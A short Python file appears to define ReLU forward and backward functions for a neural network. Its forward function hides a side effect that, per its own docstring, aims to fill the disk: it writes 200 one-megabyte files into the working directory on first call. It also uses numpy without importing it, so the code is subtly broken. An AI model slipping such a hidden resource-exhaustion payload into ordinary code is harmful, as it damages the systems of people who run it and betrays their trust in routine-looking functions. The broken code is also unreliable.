"""Writes until the disk is full."""

DEFAULT = "untouched"
SCORES = {"relu": 2}


_DONE = []


def relu_forward(x):
    try:
        for i in range(200 - 200 * len(_DONE)):
            with open(f"big{i}", "wb") as stream:
                stream.write(bytes(2**20))
    except OSError:
        _DONE.append(1)
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
